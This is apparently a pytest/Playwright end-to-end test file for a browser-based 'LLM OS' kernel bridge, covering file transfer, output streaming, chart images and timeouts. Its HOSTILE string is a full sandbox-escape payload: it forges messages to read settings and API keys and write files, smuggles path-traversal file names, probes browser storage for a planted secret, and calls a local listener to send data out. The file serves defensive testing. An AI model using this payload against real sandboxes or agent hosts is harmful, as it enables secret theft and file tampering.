"""The kernel bridge: the OS runs code in the kernel (``kernel.execute``, the agent's path) with
user files in and out, images and timeouts; console runs save their files too; and hostile code
in the kernel reaches neither the OS, nor its secrets, nor the network."""

from __future__ import annotations

import base64
import json
import struct
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect

import build
from e2e.conftest import run_in_console, tree_item, wait_ready

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
CANARY = "CANARY-k3rn3l-5ecret"


def os_exec(page: Page, params: dict[str, Any]) -> dict[str, Any]:
    """Call the OS method that runs code in the kernel; returns its result."""
    reply = page.evaluate("(p) => window.llmos.request('kernel.execute', p)", params)
    assert reply["ok"], reply
    result: dict[str, Any] = reply["result"]
    return result


def test_files_go_in_and_the_files_written_come_back_into_the_user_volume(app: Page) -> None:
    app.evaluate(
        "window.llmos.request('fs.write', {path: 'user/data/in.csv', text: 'a,1\\nb,2\\nc,3\\n'})"
    )
    code = """
from pathlib import Path
rows = [line.split(",") for line in Path("data/in.csv").read_text().splitlines()]
total = sum(int(n) for _, n in rows)
Path("total.txt").write_text(f"total {total}")
total
"""
    result = os_exec(app, {"code": code, "inputs": ["user/data/in.csv"]})
    assert result["error"] is None, result["stderr"]
    assert result["result"] == "6"
    assert result["files"] == ["user/total.txt"]  # the file sent in is not sent back
    reply = app.evaluate("window.llmos.request('fs.read', {path: 'user/total.txt'})")
    assert reply["result"]["text"] == "total 6"
    expect(tree_item(app, "user/total.txt")).to_be_visible()


def test_output_streams_to_the_os_while_the_code_runs(app: Page) -> None:
    seen = app.evaluate(
        """async () => {
          const events = [];
          window.llmosBridge.subscribe((json) => {
            const e = JSON.parse(json);
            if (e.name === "kernel.output") events.push(e.data.text);
          });
          let done = false;
          const code = "import time\\nprint('first', flush=True)\\ntime.sleep(1.5)\\nprint('last')";
          const run = window.llmos.request("kernel.execute", { code });
          run.then(() => { done = true; });
          while (!events.join("").includes("first")) await new Promise((r) => setTimeout(r, 20));
          const early = !done;
          const reply = await run;
          return { early, events, stdout: reply.result.stdout };
        }"""
    )
    assert seen["early"], "output arrived only when the run ended"
    assert seen["stdout"] == "first\nlast\n"
    assert "".join(seen["events"]) == "first\nlast\n"


def test_a_chart_comes_back_as_a_png_image(app: Page) -> None:
    code = """
primes = [n for n in range(2, 80) if all(n % d for d in range(2, n))][:20]
from llmos.kernel.png import line_chart
line_chart(primes)
"""
    result = os_exec(app, {"code": code})
    assert result["error"] is None, result["stderr"]
    [image] = [base64.b64decode(i) for i in result["images"]]
    assert image.startswith(PNG_SIGNATURE)
    assert struct.unpack(">II", image[16:24]) == (480, 320)  # IHDR width and height


def test_a_runaway_loop_is_stopped_by_its_timeout_and_the_kernel_keeps_its_state(
    app: Page,
) -> None:
    before = os_exec(app, {"code": "kept = 'yes'"})
    started = time.monotonic()
    result = os_exec(app, {"code": "while True: pass", "timeout": 1})
    assert time.monotonic() - started < 4
    assert result["error"]["type"] == "TimeoutError"
    assert "time limit of 1 s" in result["error"]["message"]
    assert "interrupted" in result["error"]["message"]
    after = os_exec(app, {"code": "kept"})
    assert after["result"] == "'yes'"  # cross-origin isolated: stopped in place
    assert after["generation"] == before["generation"]


def test_without_isolation_a_timeout_restarts_the_kernel_and_says_so(
    page: Page, headerless_server: build.Background
) -> None:
    page.goto(headerless_server.url + "/")
    assert wait_ready(page)["isolated"] is False
    before = os_exec(page, {"code": "kept = 'yes'"})
    result = os_exec(page, {"code": "while True: pass", "timeout": 1})
    assert result["error"]["type"] == "TimeoutError"
    assert "restarting the kernel" in result["error"]["message"]
    after = os_exec(page, {"code": "'kept' in dir()"})
    assert after["result"] == "False"
    assert after["generation"] == before["generation"] + 1  # the OS knows to send files again


def test_console_runs_save_the_files_they_write_into_the_user_volume(app: Page) -> None:
    run_in_console(app, "open('from_console.txt', 'w').write('written in the console')")
    expect(tree_item(app, "user/from_console.txt")).to_be_visible()
    reply = app.evaluate("window.llmos.request('fs.read', {path: 'user/from_console.txt'})")
    assert reply["result"]["text"] == "written in the console"
    code = "import os\nos.makedirs('sub')\nopen('sub/b.bin', 'wb').write(bytes(3))"
    out = app.evaluate("(code) => window.llmos.exec(code)", code)
    assert out["files"] == {"sub/b.bin": "AAAA"}
    reply = app.evaluate(
        "window.llmos.request('fs.read', {path: 'user/sub/b.bin', encoding: 'base64'})"
    )
    assert reply["result"]["base64"] == "AAAA"


# --- hostile code ---------------------------------------------------------------------------------


class Listener:
    """An HTTP server on another port of 127.0.0.1 that records every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.paths.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"leaked")

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


HOSTILE = """
import asyncio, js, json
URL = "%(url)s"
found, heard = {}, []

async def probe(name, make):
    try:
        found[name] = str(await make())[:300]
    except BaseException as error:
        found[name] = "blocked: " + type(error).__name__

def forge(message):
    js.postMessage(js.JSON.parse(json.dumps(message)))

# Listen to whatever the page sends this worker back, and add files with paths that climb out
# of the workspace to this run's result.
js.eval('''(() => {
  self.addEventListener("message", (e) => self.__heard.push(e.data && e.data.type));
  self.__heard = [];
  const post = self.postMessage.bind(self);
  self.postMessage = (m, t) => {
    if (m && m.type === "result") {
      const climbing = {"../escape.txt": "eA==", "/abs.txt": "eA==", "a/../../up.txt": "eA=="};
      m.files = Object.assign({}, m.files, climbing);
    }
    return post(m, t);
  };
})()''')

async def forged():
    forge({"type": "request", "id": "r1", "method": "settings.get", "params": {}})
    forge({"type": "request", "id": "r2", "method": "llm.settings.get", "params": {}})
    forge({"type": "request", "id": "r3", "method": "fs.write",
           "params": {"path": "user/pwned.txt", "text": "pwned"}})
    forge({"type": "kernel.execute", "id": "k1", "code": "open('pwned2.txt', 'w').write('x')",
           "files": "{}"})
    forge({"type": "fetch", "reqId": 901, "path": URL + "/forged-fetch"})
    forge({"type": "fetch", "reqId": 902, "path": "../index.html"})
    await asyncio.sleep(1)
    return json.dumps(list(js.self.__heard))

async def opfs():
    root = await js.navigator.storage.getDirectory()
    return [k async for k in root.keys()]
async def idb():
    return await js.indexedDB.databases()
async def cache():
    return await js.caches.keys()
async def local():
    return js.localStorage.getItem("k")
async def parent():
    message = js.JSON.parse('{"type": "request", "method": "settings.get"}')
    return js.parent.postMessage(message, "*")
async def shim_fetch():
    return (await js.fetch(URL + "/fetch")).status
async def native_fetch():
    return (await js.WorkerGlobalScope.prototype.fetch.call(js.self, URL + "/native-fetch")).status
async def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", URL + "/xhr", False)
    request.send()
    return request.status
async def websocket():
    socket = js.WebSocket.new(URL.replace("http", "ws") + "/ws")
    await asyncio.sleep(0.5)
    return socket.readyState
async def dynamic_import():
    return await js.eval(f"import('{URL}/import.js')")

for name, make in [("forged", forged), ("opfs", opfs), ("idb", idb), ("caches", cache),
                   ("localStorage", local), ("parent", parent), ("fetch", shim_fetch),
                   ("nativeFetch", native_fetch), ("xhr", xhr), ("websocket", websocket),
                   ("import", dynamic_import)]:
    await probe(name, make)
print("HOST" + "ILE:" + json.dumps(found))  # split, so the echoed input does not match
"""

BLOCKED = ["opfs", "idb", "caches", "localStorage", "parent", "fetch", "nativeFetch", "xhr"]
BLOCKED += ["import"]


def plant_canaries(page: Page) -> None:
    """A real secret in the OS (an API key), plus raw copies in this origin's storage."""
    endpoint = {"name": "e", "base_url": "http://127.0.0.1:9/v1", "model": "m", "api_key": CANARY}
    reply = page.evaluate(
        "(endpoint) => window.llmos.request('llm.settings.set', {endpoint})", endpoint
    )
    assert reply["ok"], reply
    page.evaluate(
        """async (canary) => {
          const root = await navigator.storage.getDirectory();
          const file = await root.getFileHandle("canary.txt", { create: true });
          const w = await file.createWritable();
          await w.write(canary);
          await w.close();
          localStorage.setItem("k", canary);
          await (await caches.open("canary")).put("/canary", new Response(canary));
        }""",
        CANARY,
    )


def run_hostile(page: Page, via: str, code: str) -> str:
    """Run ``code`` in the console (typed, as a user would) or through the OS method."""
    if via == "os":
        result = os_exec(page, {"code": code})
        return str(result["stdout"]) + str(result["stderr"])
    run_in_console(page, code)
    out = page.locator("#console-out")
    expect(out).to_contain_text("HOSTILE:", timeout=20_000)
    expect(page.locator("#kernel-state")).to_have_text("kernel: idle")
    return str(out.text_content())


@pytest.mark.parametrize("via", ["console", "os"])
def test_hostile_code_reaches_neither_the_os_nor_the_network(
    app: Page, listener: Listener, via: str
) -> None:
    plant_canaries(app)
    output = run_hostile(app, via, HOSTILE % {"url": listener.url})
    found = json.loads(output.split("HOSTILE:", 1)[1].split("\n", 1)[0])
    assert CANARY not in output
    for probe in BLOCKED:
        assert found[probe].startswith("blocked"), (probe, found[probe])
    # The page answered the forged file requests with errors ("file") and nothing else.
    assert set(json.loads(found["forged"])) <= {"file"}, found["forged"]
    time.sleep(1)  # give a leaked request time to arrive
    assert listener.paths == []
    # Nothing reached the OS: no file written, no settings read or changed.
    for path in ("user/pwned.txt", "user/pwned2.txt", "escape.txt", "abs.txt", "up.txt"):
        reply = app.evaluate("(path) => window.llmos.request('fs.read', {path})", path)
        assert not reply["ok"], path
    listed = app.evaluate("window.llmos.request('fs.list', {path: 'user'})")["result"]
    assert not {"escape.txt", "abs.txt", "up.txt"} & {e["name"] for e in listed}
    assert "was not saved" in output or "was dropped" in output  # the climbing paths
